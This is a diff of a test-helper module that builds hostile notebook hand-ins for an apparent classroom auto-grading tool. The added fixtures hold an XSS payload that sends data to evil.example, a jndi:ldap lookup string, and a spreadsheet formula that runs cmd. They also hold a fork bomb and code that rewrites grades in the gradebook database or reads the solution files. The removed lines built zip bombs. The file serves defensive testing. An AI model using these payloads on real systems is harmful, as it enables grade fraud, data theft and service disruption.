@@ -1,16 +1,9 @@
-"""What hostile hand-ins are made of: notebooks with something done to them, zips made by hand, links, old formats."""
+"""What hostile notebooks hold: texts that run, fetch or break something, and changes of cells, settings and outputs."""
 
 from __future__ import annotations
 
-import io
 import json
-import struct
-import warnings
-import zipfile
-import zlib
-from collections.abc import Callable, Iterable, Mapping
-from dataclasses import dataclass
-from pathlib import Path
+from collections.abc import Callable, Mapping
 from typing import Any
 
 from pharmcalc.classroom.cells import cells_by_id, source_of
@@ -18,6 +11,7 @@ from tests.classroom.building import answered
 
 Notebook = dict[str, Any]
 Change = Callable[[Notebook], None]
+MB = 2**20
 
 EVIL = "https://evil.example/"
 HACK = f"document.documentElement.setAttribute('data-hacked','1');alert(1);fetch('{EVIL}steal')"
@@ -39,21 +33,28 @@ SCRIPT = "\n\n".join(SCRIPTS)
 #: Right-to-left override, escape sequence, bell, NUL, half a character, byte order mark.
 SIGNS = "\u202e\u2066\x1b]0;owned\x07\x1b[31m\x00\ud800\ufeff"
 
-
-@dataclass(frozen=True)
-class Link:
-    """A link; ``to`` is ``victim`` (a file outside the course), ``victims`` (its folder), or a path in the course."""
-
-    to: str
-
-
-@dataclass(frozen=True)
-class Pipe:
-    """A named pipe: whoever opens it to read waits for ever."""
-
-
-Thing = bytes | Link | Pipe
-Files = dict[str, Thing]
+ANSWERS = {
+    "9**9**9": "9**9**9",
+    "a tower of powers": "10^10^10^10 mg = 1e999999999 mg",
+    "deep parentheses": "(" * 90 + "1" + ")" * 90 + " mg",
+    "not a number": "nan mg = inf mg = -inf mg",
+    "Python": "__import__('os').system('touch owned') or 12 mg",
+    "a formula of a spreadsheet": '=HYPERLINK("https://evil.example";"x")+cmd|\' /C calc\'!A0',
+    "a chain of a thousand steps": " = ".join(["1 mg"] * 1000),
+    "a format string": "{0.__class__.__init__.__globals__} %s%n ${jndi:ldap://evil.example/a}",
+}
+SYSTEM_CALLS = (
+    "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
+    "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
+    "import os\nwhile True: os.fork()",
+    "import os\nos._exit(0)",
+    "print('x' * 50_000_000)",
+    "import sqlite3\nb = sqlite3.connect('../../../gradebook.db')\nb.execute('update grade set auto_score = 100')",
+    "import os\nos.remove('week-1.ipynb'); os.symlink('../../../gradebook.db', 'week-1.ipynb')",
+    "import builtins\nclass Same(float):\n    __eq__ = __ge__ = lambda *_: True\nbuiltins.float = Same",
+    "%%bash\ntouch owned; cat ../../../solutions/*/*",
+    f"%%javascript\n{HACK}",
+)
 
 
 # Notebooks -----------------------------------------------------------------------------------------------------------
@@ -67,21 +68,6 @@ def half_right(release: Mapping[str, Any], number: str, change: Change | None = 
 def as_bytes(nb: Any) -> bytes:
     """Return a notebook as a file."""
     return json.dumps(nb).encode()
-
-
-def changed(change: Change) -> Callable[[Mapping[str, Any], str], Files]:
-    """Return a maker of a hand-in: a notebook with q1 right and q2 empty, and something done to it."""
-    return lambda release, number: {f"{number}/work.ipynb": as_bytes(half_right(release, number, change))}
-
-
-def rewritten(write: Callable[[str], bytes | str]) -> Callable[[Mapping[str, Any], str], Files]:
-    """Return a maker of a hand-in whose text as a file was written another way."""
-
-    def make(release: Mapping[str, Any], number: str) -> Files:
-        text = write(json.dumps(half_right(release, number)))
-        return {f"{number}/work.ipynb": text.encode() if isinstance(text, str) else text}
-
-    return make
 
 
 def code(*sources: str) -> Change:
@@ -189,63 +175,55 @@ def deep(levels: int) -> Any:
     return found
 
 
-# Zips ----------------------------------------------------------------------------------------------------------------
+def split_cells(nb: Notebook) -> None:
+    """Split every answer and mark cell in two, as JupyterLab does: both halves have the same settings and ids."""
+    cells = []
+    for cell in nb["cells"]:
+        head, _, rest = source_of(cell).partition("\n")
+        cells += [{**cell, "source": head}, {**cell, "source": rest}] if "-q" in cell["id"] else [cell]
+    nb["cells"] = cells
 
 
-def zipped(entries: Iterable[tuple[str | zipfile.ZipInfo, bytes]], how: int = zipfile.ZIP_DEFLATED) -> bytes:
-    """Return a zip; names may be anything, also the same one twice."""
-    file = io.BytesIO()
-    with warnings.catch_warnings(), zipfile.ZipFile(file, "w", how) as archive:
-        warnings.simplefilter("ignore")
-        for name, data in entries:
-            archive.writestr(name, data)
-    return file.getvalue()
+def copied_locked_cells(nb: Notebook) -> None:
+    """Copy the mark cells with more points, and let a copy name another task."""
+    for cell in [c for c in nb["cells"] if c["id"].startswith("mark-")]:
+        for name in (cell["id"], "mark-q1", "mark-q9"):
+            settings = {**cell["metadata"]["nbgrader"], "points": 100, "grade_id": name}
+            nb["cells"].append({**cell, "source": "100", "metadata": {"nbgrader": settings}})
 
 
-def entry(name: str, mode: int) -> zipfile.ZipInfo:
-    """Return the head of an entry that says it is a link, a device ..."""
-    made = zipfile.ZipInfo(name)
-    made.create_system = 3
-    made.external_attr = mode << 16
-    return made
+def many_cells(count: int) -> Change:
+    """Return a change that adds cells."""
+    return lambda nb: nb["cells"].extend(
+        {"cell_type": "code", "id": f"c{n}", "metadata": {}, "source": f"{n}", "outputs": [], "execution_count": n}
+        for n in range(count)
+    )
 
 
-def bomb(name: str, size: int) -> bytes:
-    """Return a zip with one file of blanks, which unpacks to a thousand times of what the zip weighs."""
-    return zipped([(name, b" " * size)])
+def second_answers(nb: Notebook) -> None:
+    """Answer the same task in a thousand cells, each time otherwise."""
+    many_cells(1000)(nb)
+    for n, cell in enumerate(nb["cells"][-1000:]):
+        cell["source"] = f"%%answer q1\nleast weighable quantity = {n} mg"
 
 
-def overlapping(name: str, data: bytes, times: int) -> bytes:
-    """Return a zip whose list names the same bytes many times over."""
-    packed = zlib.compress(data, 9)[2:-4]
-    crc, raw = zlib.crc32(data), name.encode()
-    common = struct.pack("<HHHHHLLLHH", 20, 0, 8, 0, 33, crc, len(packed), len(data), len(raw), 0)
-    local = b"PK\x03\x04" + common + raw + packed
-    one = b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHLL", 0, 0, 0, 0, 0) + raw
-    end = b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, times, times, len(one) * times, len(local), 0)
-    return local + one * times + end
+def printed(size: int) -> Change:
+    """Return a change that prints much in the cell of q1."""
+    output = {"output_type": "stream", "name": "stdout", "text": "x" * size}
+    return lambda nb: cells_by_id(nb)["mark-q1"].update(outputs=[output])
 
 
-def lying_about_sizes(data: bytes) -> bytes:
-    """Return the zip with sizes in its list that are not those of its files: all ones."""
-    at = data.index(b"PK\x01\x02")
-    return data[: at + 24] + struct.pack("<L", 7) + data[at + 28 :]
+def odd_cells(nb: Notebook) -> None:
+    """Give cells values of kinds that no notebook has."""
+    nb["cells"] += [
+        {"cell_type": ["code"], "metadata": 7, "source": {"a": [None]}, "id": {"x": 1}},
+        {"cell_type": None, "metadata": {"nbgrader": ["grade"]}, "source": 7},
+        {"cell_type": "markdown", "metadata": {"nbgrader": {"grade_id": ["mark-q2"]}}, "source": None},
+        {"cell_type": "code", "metadata": None, "source": [1, None, ["%%answer q2"]]},
+    ]
 
 
-# Laying out ----------------------------------------------------------------------------------------------------------
-
-
-def lay(folder: Path, files: Files, *, victim: Path, root: Path) -> None:
-    """Lay files, links and pipes into a folder."""
-    import os
-
-    for name, thing in files.items():
-        path = folder / name
-        path.parent.mkdir(parents=True, exist_ok=True)
-        if isinstance(thing, bytes):
-            path.write_bytes(thing)
-        elif isinstance(thing, Pipe):
-            os.mkfifo(path)
-        else:
-            known = {"victim": victim, "victims": victim.parent}
-            path.symlink_to(known.get(thing.to, root / thing.to))
+def deep_metadata(nb: Notebook) -> None:
+    """Hide lists in lists in nbgrader's settings and in a source, shallow enough to be read."""
+    cells_by_id(nb)["answer-q1"]["metadata"]["nbgrader"]["deep"] = deep(700)
+    nb["cells"].append({"cell_type": "code", "metadata": {"deep": deep(700)}, "source": deep(700), "outputs": []})
